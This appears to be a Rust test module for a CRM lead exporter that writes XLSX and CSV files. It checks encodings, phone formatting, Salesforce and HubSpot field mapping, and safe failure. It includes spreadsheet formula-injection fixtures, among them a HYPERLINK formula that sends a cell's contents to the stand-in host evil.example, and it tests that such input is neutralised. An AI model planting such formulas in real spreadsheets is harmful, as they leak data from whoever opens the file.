        evil.company = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")".into();
        evil.mobile = "+8613812345678".into();
        let rows = vec![lead("张三"), evil, lead("John Smith")];
        let n = write_leads(
            &path,
            rows,
            CrmPreset::Marketdesk,
            ExportFormat::Xlsx,
            Lang::ZhCn,
        )
        .expect("export succeeds");
        assert_eq!(n, 3, "three leads written");

        let sheet = read_xlsx(&path, "线索");
        assert_eq!(sheet.len(), 4, "header plus three rows");
        assert_eq!(
            sheet[0],
            CrmPreset::Marketdesk.headers(Lang::ZhCn),
            "headers in Chinese, in preset order"
        );
        assert_eq!(sheet[0][0], "姓名", "first header is the name");
        assert_eq!(sheet[1][0], "张三", "Chinese name survives");
        assert_eq!(
            cell(&path, "线索", 1, 1),
            Data::String("13812345678".into()),
            "a mobile number is a text cell, not a number Excel would turn into 1.38E+10"
        );
        assert_eq!(
            cell(&path, "线索", 1, 2),
            Data::String("010-88886666 转 123".into()),
            "other phones are text"
        );
        assert_eq!(
            cell(&path, "线索", 2, 5),
            Data::String("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")".into()),
            "a formula typed into a form is a text cell, as typed, without a visible apostrophe"
        );
        assert!(
            !std::io::Read::bytes(std::fs::File::open(&path).expect("open"))
                .count()
                .eq(&0),
            "the file is there"
        );
        assert_eq!(
            cell(&path, "线索", 2, 1),
            Data::String("+8613812345678".into()),
            "a number abroad keeps its + (a text cell)"
        );
        assert_eq!(sheet[3][0], "John Smith", "Latin name written whole");
        assert_eq!(
            files_in(dir.path()),
            vec!["线索.xlsx".to_string()],
            "no temporary file is left beside the export"
        );
    }

    #[test]
    fn csv_has_bom_crlf_and_parses_back() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("leads.csv");
        let mut evil = lead("欧阳娜娜");
        evil.tags = "@SUM(1+1)，\"引号\"".into();
        evil.department = "研发,测试\n二部".into();
        evil.mobile = "+85291234567".into();
        let n = write_leads(
            &path,
            vec![lead("张三"), evil],
            CrmPreset::Marketdesk,
            ExportFormat::Csv,
            Lang::En,
        )
        .expect("export succeeds");
        assert_eq!(n, 2, "two leads written");

        let bytes = std::fs::read(&path).expect("file exists");
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBF"),
            "UTF-8 BOM first, so Excel on Chinese Windows does not read GBK"
        );
        let text = std::str::from_utf8(&bytes[3..]).expect("the rest is UTF-8");
        assert!(
            text.starts_with("Name,Mobile,Other phones,Email,WeChat,Company,"),
            "English headers: {text:?}"
        );
        assert!(
            text.contains("\r\n") && !text.replace("\r\n", "").contains('\r'),
            "records end with CRLF"
        );

        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let headers = reader.headers().expect("header row").clone();
        assert_eq!(
            headers.iter().collect::<Vec<_>>(),
            CrmPreset::Marketdesk.headers(Lang::En),
            "headers parse back"
        );
        let records: Vec<csv::StringRecord> = reader
            .records()
            .collect::<std::result::Result<_, _>>()
            .expect("records parse back");
        assert_eq!(records.len(), 2, "two records");
        assert_eq!(&records[0][0], "张三", "Chinese name");
        assert_eq!(&records[0][1], "13812345678", "mobile digits kept");
        assert_eq!(&records[1][0], "欧阳娜娜", "second name");
        assert_eq!(
            &records[1][6], "研发,测试\n二部",
            "comma and newline inside a cell are quoted, not split"
        );
        assert_eq!(
            &records[1][13], "'@SUM(1+1)，\"引号\"",
            "an @ cell is neutralised and quotes survive"
        );
        assert_eq!(
            &records[1][1], "+85291234567",
            "a number abroad reaches the CRM intact"
        );
    }

    #[test]
    fn salesforce_preset_splits_names_and_fills_required_fields() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("salesforce.xlsx");
        let mut no_company = lead("John Smith");
        no_company.company = "  ".into();
        let mut no_name = lead("");
        no_name.department.clear();
        no_name.seniority.clear();
        let n = write_leads(
            &path,
            vec![lead("欧阳娜娜"), no_company, no_name, lead("ZHANG San")],
            CrmPreset::SalesforceLeads,
            ExportFormat::Xlsx,
            Lang::ZhCn,
        )
        .expect("export succeeds");
        assert_eq!(n, 4, "four leads written");

        let sheet = read_xlsx(&path, "线索");
        assert_eq!(
            sheet[0],
            [
                "First Name",
                "Last Name",
                "Company",
                "Title",
                "Email",
                "Phone",
                "Mobile",
                "City",
                "Industry",
                "Lead Source",
                "Description"
            ],
            "Salesforce field labels, in English whatever the UI language"
        );
        assert_eq!(
            (sheet[1][0].as_str(), sheet[1][1].as_str()),
            ("娜娜", "欧阳"),
            "compound surname 欧阳 is the last name"
        );
        assert_eq!(
            (sheet[2][0].as_str(), sheet[2][1].as_str()),
            ("John", "Smith"),
            "Western order"
        );
        assert_eq!(
            sheet[2][2], "[未填写]",
            "Salesforce needs a company: the gap is filled visibly"
        );
        assert_eq!(
            (sheet[3][0].as_str(), sheet[3][1].as_str()),
            ("", "[未填写]"),
            "Salesforce needs a last name"
        );
        assert_eq!(
            (sheet[4][0].as_str(), sheet[4][1].as_str()),
            ("San", "ZHANG"),
            "pinyin capitals mark the family name"
        );
        assert_eq!(sheet[1][6], "13812345678", "mobile in Mobile");
        assert_eq!(sheet[1][7], "深圳", "region in City");
        assert_eq!(
            sheet[1][10],
            "微信：nana_wx；部门：信息科技部；级别：总监级；职能：科技；参加的活动：2024 金融科技峰会；CIO 沙龙；标签：重点客户；入库时间：2024-05-18",
            "facts Salesforce has no field for go to Description"
        );
        assert!(
            !sheet[3][10].contains("部门") && !sheet[3][10].contains("级别"),
            "empty facts are left out of Description: {:?}",
            sheet[3][10]
        );
    }

    #[test]
    fn hubspot_and_chinese_crm_headers() {
        assert_eq!(
            CrmPreset::HubspotContacts.headers(Lang::ZhCn)[..9],
            [
                "First Name",
                "Last Name",
                "Email",
                "Phone Number",
                "Mobile Phone Number",
                "Company Name",
                "Job Title",
                "City",
                "Industry"
            ],
            "HubSpot default contact property labels come first"
        );
        assert_eq!(
            CrmPreset::ChineseCrm.headers(Lang::En),
            [
                "姓名",
                "手机",
                "电话",
                "邮箱",
                "微信",
                "公司名称",
                "部门",
                "职务",
                "省市/地区",
                "行业",
                "线索来源",
                "备注"
            ],
            "a Chinese CRM matches Chinese field names even for an English-speaking user"
        );

        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("hubspot.csv");
        let mut no_company = lead("欧阳娜娜");
        no_company.company.clear();
        write_leads(
            &path,
            vec![no_company],
            CrmPreset::HubspotContacts,
            ExportFormat::Csv,
            Lang::En,
        )
        .expect("export succeeds");
        let bytes = std::fs::read(&path).expect("file exists");
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let record = reader
            .records()
            .next()
            .expect("one record")
            .expect("parses");
        assert_eq!(
            (&record[0], &record[1]),
            ("娜娜", "欧阳"),
            "HubSpot gets the name split too"
        );
        assert_eq!(
            &record[5], "",
            "HubSpot does not require a company: no placeholder"
        );
    }

    #[test]
    fn marketdesk_headers_import_back() {
        use marketdesk_core::people::{map_headers, Column};
        let want = [
            Some(Column::Name),
            Some(Column::Phone),
            None,
            Some(Column::Email),
            Some(Column::WeChat),
            Some(Column::Company),
            Some(Column::Department),
            Some(Column::Title),
            Some(Column::Region),
            Some(Column::Industry),
            None,
            None,
            None,
            None,
            None,
            None,
        ];
        for lang in [Lang::ZhCn, Lang::En] {
            let headers = CrmPreset::Marketdesk.headers(lang);
            assert_eq!(
                map_headers(&headers),
                want,
                "{lang:?}: Marketdesk's import maps its own export's headers {headers:?} \
                 (other phones not as the mobile, the added-on date not as a registration time)"
            );
        }
    }

    #[test]
    fn rejected_rows_carry_the_reason() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("未导入.xlsx");
        let headers: Vec<String> = ["姓名", "手机", "=公司"].map(String::from).to_vec();
        let rows = vec![
            RejectedRow {
                row: 7,
                cells: vec!["测试".into(), "1.38E+10".into(), "招商银行".into()],
                reason: "“测试”是占位或测试数据，不是真实姓名。".into(),
            },
            RejectedRow {
                row: 9,
                cells: vec!["-".into()],
                reason: "没有填写姓名。".into(),
            },
            RejectedRow {
                row: 12,
                cells: vec![
                    "李四".into(),
                    "".into(),
                    "工行".into(),
                    "多出来的一格".into(),
                ],
                reason: "手机号码位数不对。".into(),
            },
        ];
        let warned = vec![RejectedRow {
            row: 9,
            cells: vec!["王五".into(), "138****5678".into(), "工行".into()],
            reason: "手机号码被遮住了一部分（这一项不导入）".into(),
        }];
        let n = write_rejected_rows(&path, &headers, rows, warned, Lang::ZhCn).expect("written");
        assert_eq!(n, 3, "three rejected rows");
        let warnings = read_xlsx(&path, "导入时的提醒");
        assert_eq!(
            warnings[0][4], "提醒",
            "a second sheet lists the rows imported with a warning"
        );
        assert_eq!(
            (warnings[1][0].as_str(), warnings[1][4].as_str()),
            ("9", "手机号码被遮住了一部分（这一项不导入）")
        );

        let sheet = read_xlsx(&path, "未导入的行");
        assert_eq!(
            sheet[0][..5],
            ["行号", "姓名", "手机", "=公司", "原因"],
            "row number, the source headers as read (string cells, never formulas), then the reason"
        );
        assert_eq!(
            cell(&path, "未导入的行", 1, 0),
            Data::Float(7.0),
            "row number as a number"
        );
        assert_eq!(
            sheet[1][4], "“测试”是占位或测试数据，不是真实姓名。",
            "reason in the last column"
        );
        assert_eq!(sheet[1][2], "1.38E+10", "the bad cell is echoed as typed");
        assert_eq!(
            (sheet[2][1].as_str(), sheet[2][4].as_str()),
            ("-", "没有填写姓名。"),
            "a short row keeps its reason in the reason column; '-' is a text cell as typed"
        );
        assert_eq!(
            (sheet[3][4].as_str(), sheet[3][5].as_str()),
            ("手机号码位数不对。", "多出来的一格"),
            "an extra cell follows the reason instead of overwriting it"
        );

        let en = dir.path().join("rejected.xlsx");
        write_rejected_rows(&en, &headers, Vec::new(), Vec::new(), Lang::En).expect("written");
        let sheet = read_xlsx(&en, "Rejected rows");
        assert_eq!(
            sheet[0],
            ["Row", "姓名", "手机", "=公司", "Reason"],
            "English frame around the source headers"
        );
    }

    #[test]
    fn a_missing_directory_fails_and_leaves_nothing() {
        let dir = tempfile::tempdir().expect("temp dir");
        let missing = dir.path().join("no-such-dir");
        for format in ExportFormat::ALL {
            let path = missing.join(format!("leads.{}", format.extension()));
            let got = write_leads(
                &path,
                vec![lead("张三")],
                CrmPreset::Marketdesk,
                format,
                Lang::ZhCn,
            );
            assert!(
                matches!(got, Err(ReportError::Spreadsheet(_))),
                "{format:?} into a missing directory fails: {got:?}"
            );
            assert!(
                !missing.exists(),
                "{format:?}: the directory is not created"
            );
        }
        let got = write_rejected_rows(
            &missing.join("rejected.xlsx"),
            &[],
            Vec::new(),
            Vec::new(),
            Lang::ZhCn,
        );
        assert!(got.is_err(), "rejected rows into a missing directory fail");
        assert_eq!(
            files_in(dir.path()),
            Vec::<String>::new(),
            "nothing is left behind"
        );
    }

    #[test]
    fn a_failed_export_keeps_the_old_file_and_no_half_file() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("leads.xlsx");
        std::fs::write(&path, b"previous export").expect("seed file");
        let mut huge = lead("张三");
        huge.tags = "标".repeat(40_000);
        let got = write_leads(
            &path,
            vec![lead("李四"), huge],
            CrmPreset::Marketdesk,
            ExportFormat::Xlsx,
            Lang::ZhCn,
        );
        assert!(
            got.is_err(),
            "a cell over Excel's 32,767 characters fails the export"
        );
        assert_eq!(
            std::fs::read(&path).expect("old file still there"),
            b"previous export",
            "the previous file is untouched"
        );
        assert_eq!(
            files_in(dir.path()),
            vec!["leads.xlsx".to_string()],
            "no temporary file is left behind"
        );
    }

    #[test]
    fn too_many_rows_is_an_error_not_a_truncated_file() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("leads.xlsx");
        let pulled = Cell::new(0u64);
        let rows = (0..1_000).map(|i| {
            pulled.set(pulled.get() + 1);
            lead(&format!("王{i}"))
        });
        let got = write_leads_within(
            &path,
            rows,
            CrmPreset::Marketdesk,
            ExportFormat::Xlsx,
            Lang::ZhCn,
            3,
        );
        let err = got.expect_err("over the limit is refused");
        assert!(
            err.message(Lang::ZhCn).contains("1,048,575"),
            "the message names the limit: {}",
            err.message(Lang::ZhCn)
        );
        assert_eq!(
            pulled.get(),
            4,
            "rows are streamed: reading stops at the first row over the limit"
        );
        assert!(!path.exists(), "no truncated file is left");
        assert_eq!(
            files_in(dir.path()),
            Vec::<String>::new(),
            "nor a temporary one"
        );

        let n = write_leads_within(
            &path,
            (0..3).map(|i| lead(&format!("王{i}"))),
            CrmPreset::Marketdesk,
            ExportFormat::Xlsx,
            Lang::ZhCn,
            3,
        )
        .expect("exactly the limit is fine");
        assert_eq!(n, 3, "all rows up to the limit are written");
    }

    #[test]
    fn formulas_are_neutralised() {
        let cases = [
            ("=1+1", "'=1+1", "equals"),
            ("+1", "'+1", "plus"),
            ("-1", "'-1", "minus"),
            ("-", "'-", "a lone dash"),
            ("@SUM(A1)", "'@SUM(A1)", "at"),
            ("\t=1", "'\t=1", "tab"),
            ("\rx", "'\rx", "carriage return"),
            ("\0x", "'\0x", "NUL"),
            ("  =1", "'  =1", "after spaces"),
            ("\u{3000}=1", "'\u{3000}=1", "after an ideographic space"),
            ("＝1", "'＝1", "full-width equals"),
            ("＋86", "'＋86", "full-width plus"),
            ("－1", "'－1", "full-width minus"),
            ("＠x", "'＠x", "full-width at"),
            ("+86 138 1234 5678", "'+86 138 1234 5678", "phone with +"),
            ("", "", "empty stays empty"),
            ("张三", "张三", "plain text untouched"),
            ("a=b", "a=b", "equals later in the text is harmless"),
            ("13812345678", "13812345678", "digits untouched"),
        ];
        for (raw, want, why) in cases {
            assert_eq!(neutralise_formula(raw), want, "{why}: {raw:?}");
        }
        assert!(
            matches!(neutralise_formula("张三"), Cow::Borrowed(_)),
            "safe text is not copied"
        );
    }

    #[test]
    fn codes_round_trip_and_names_exist() {
        for p in CrmPreset::ALL {
            assert_eq!(CrmPreset::from_code(p.code()), Some(p), "{p:?} code");
            assert_eq!(
                serde_json::to_value(p).expect("serialises"),
                serde_json::Value::String(p.code().into()),
                "{p:?}: serde and code() agree"
            );
            for lang in [Lang::ZhCn, Lang::En] {
                assert!(!p.name(lang).is_empty(), "{p:?} named in {lang:?}");
                let headers = p.headers(lang);
                let mut unique = headers.clone();
                unique.sort_unstable();
                unique.dedup();
                assert_eq!(
                    unique.len(),
                    headers.len(),
                    "{p:?} {lang:?}: headers unique"
                );
            }
        }
        assert_eq!(CrmPreset::from_code("sap"), None, "unknown code");
        for f in ExportFormat::ALL {
            assert_eq!(ExportFormat::from_code(f.code()), Some(f), "{f:?} code");
            assert_eq!(
                serde_json::to_value(f).expect("serialises"),
                serde_json::Value::String(f.code().into()),
                "{f:?}: serde and code() agree"
            );
        }
    }

    /// A full-size export: run with `cargo test -p marketdesk-report --release -- --ignored`.
    #[test]
    #[ignore = "writes a million rows"]
    fn one_million_rows_stream() {
        let dir = tempfile::tempdir().expect("temp dir");
        for format in ExportFormat::ALL {
            let path = dir.path().join(format!("big.{}", format.extension()));
            let rows = (0..MAX_XLSX_DATA_ROWS).map(|i| lead(&format!("王{i}")));
            let n = write_leads(&path, rows, CrmPreset::Marketdesk, format, Lang::ZhCn)
                .expect("a full sheet is written");
            assert_eq!(n, MAX_XLSX_DATA_ROWS, "{format:?}: every row");
        }
        let path = dir.path().join("too-big.xlsx");
        let rows = (0..=MAX_XLSX_DATA_ROWS).map(|i| lead(&format!("王{i}")));
        let got = write_leads(
            &path,
            rows,
            CrmPreset::Marketdesk,
            ExportFormat::Xlsx,
            Lang::En,
        );
        assert!(got.is_err(), "one row more is refused");
        assert!(!path.exists(), "and leaves nothing");
    }
}
